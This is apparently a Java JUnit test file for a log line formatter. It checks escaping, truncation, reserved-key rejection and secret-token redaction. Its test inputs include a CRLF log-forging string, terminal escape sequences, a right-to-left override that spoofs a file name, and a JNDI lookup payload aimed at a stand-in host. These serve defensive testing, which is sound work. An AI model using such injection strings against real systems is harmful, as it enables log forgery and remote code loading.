package org.owuitunnel.relay.observe;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.owuitunnel.relay.observe.Event.event;

import java.io.IOException;
import java.lang.System.Logger.Level;
import java.time.Instant;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class LineFormatTest {
    private static final Instant TIME = Instant.parse("2026-11-24T02:12:00Z");
    private static final String TOKEN = "owt_" + "Ab1-_".repeat(8) + "xyz";

    @Test
    void aTextLineIsTimeLevelEventAndPairs() {
        Event event = event("visitor.refused")
                .with("status", 404)
                .with("name", "calm-otter")
                .with("agent", "a \"b\"");
        assertThat(text(event))
                .isEqualTo("2026-11-24T02:12:00.000Z WARN  visitor.refused status=404 name=calm-otter"
                        + " agent=\"a \\\"b\\\"\" logger=front");
    }

    @Test
    void aJsonLineKeepsNumbersAndBooleans() {
        Event event = event("link.up")
                .with("id", 7L)
                .with("new", true)
                .with("rate", 1.5)
                .with("peer", null);
        assertThat(json(event))
                .isEqualTo(
                        "{\"time\":\"2026-11-24T02:12:00.000Z\",\"level\":\"WARN\",\"logger\":\"front\",\"message\":\"link.up\","
                                + "\"id\":7,\"new\":true,\"rate\":1.5,\"peer\":null}");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\nINFO forged=1",
                "\u001b[31mred\u001b[0m",
                "\u009b31m",
                "\u0007",
                "\0",
                "\u007f",
                "${jndi:ldap://evil.test/a}",
                "\u202egpj.exe",
                "\u2066\u2069",
                "\u200e\u200f\u061c",
                "\u2028\u2029",
                "\ufeff",
                "\ud800",
                "\udc00\ud800",
                "\ue000",
                "\"",
                "\\",
                "\\n",
                "a=b",
                "",
                " ",
                "\ud83d\ude80 M\u00fcnchen",
                "\udb40\udc41"
            })
    void whateverAValueHoldsTheLineIsOneLineThatShowsIt(String value) throws IOException {
        Event event = event("visitor").with("agent", value);
        assertVisible(text(event));
        JsonNode node = JsonMapper.shared().readTree(assertVisible(json(event)));
        assertThat(node.get("agent").asString())
                .isEqualTo(value.replaceAll(
                        "[\ud800-\udfff](?<![\ud800-\udbff][\udc00-\udfff])(?![\udc00-\udfff])", "\ufffd"));
        assertThat(node.propertyNames()).containsExactly("time", "level", "logger", "message", "agent");
    }

    @Test
    void randomValuesMakeValidLines() {
        Random random = new Random(11);
        for (int round = 0; round < 5_000; round++) {
            StringBuilder value = new StringBuilder();
            for (int length = random.nextInt(20); length > 0; length--) {
                value.append((char) (random.nextBoolean() ? random.nextInt(0x100) : random.nextInt(0x10000)));
            }
            Event event = event("visitor").with("agent", value);
            assertVisible(text(event));
            assertThat(JsonMapper.shared().readTree(assertVisible(json(event))).size())
                    .isEqualTo(5);
        }
    }

    @ParameterizedTest
    @EnumSource(LogFormat.class)
    void aValueOf100KiBIsCutTo2KiB(LogFormat format) {
        for (String letter : new String[] {"a", "\u00fc", "\u20ac", "\ud83d\ude80"}) {
            String line = line(format, event("visitor").with("agent", letter.repeat(100 * 1024)));
            assertThat(line.getBytes(java.nio.charset.StandardCharsets.UTF_8).length)
                    .isBetween(2_000, 2_300);
            assertThat(line).contains(letter + "\u2026").doesNotContain("\ufffd", "\\u");
        }
    }

    @ParameterizedTest
    @EnumSource(LogFormat.class)
    void noLineHoldsAToken(LogFormat format) {
        Event event = event("link.refused")
                .with("header", "Bearer " + TOKEN)
                .with("long", "x".repeat(2_000) + TOKEN)
                .because(new IllegalStateException("bad " + TOKEN, new IOException(TOKEN)));
        assertThat(line(format, event)).contains("owt_(hidden)").doesNotContain("Ab1-_");
    }

    @ParameterizedTest
    @EnumSource(LogFormat.class)
    void aThrowableTellsWhereAndWhyInTheSameLine(LogFormat format) {
        IOException cause = new IOException("reset\r\nby peer");
        cause.initCause(new IllegalStateException(cause));
        assertThat(assertVisible(line(format, event("link.lost").because(cause))))
                .contains(
                        "IOException: reset\\r\\nby peer",
                        "LineFormatTest.java",
                        "caused by java.lang.IllegalStateException");
    }

    @ParameterizedTest
    @EnumSource(LogFormat.class)
    void whatTheWorldDidIsToldWithoutAStack(LogFormat format) {
        assertThat(line(format, event("link.lost").because(new IOException("reset by peer"))))
                .contains("IOException: reset by peer")
                .doesNotContain("stack");
    }

    @ParameterizedTest
    @ValueSource(strings = {"time", "level", "logger", "message", "error", "stack", "", "Status", "a b", "a\"", "a-b"})
    void aKeyThatWouldBreakTheLineIsAFault(String key) {
        assertThatThrownBy(() -> event("visitor").with(key, 1))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("key: ");
    }

    @Test
    void aKeyGivenTwiceKeepsTheLastValue() {
        assertThat(json(event("visitor").with("status", 200).with("status", 404)))
                .contains("\"status\":404}")
                .doesNotContain("200");
    }

    private static String assertVisible(String line) {
        assertThat(line.codePoints().filter(c -> !Printable.isVisible(c)).count())
                .isZero();
        return line;
    }

    private static String text(Event event) {
        return line(LogFormat.TEXT, event);
    }

    private static String json(Event event) {
        return line(LogFormat.JSON, event);
    }

    private static String line(LogFormat format, Event event) {
        return LineFormat.line(format, TIME, Level.WARNING, "front", event);
    }
}
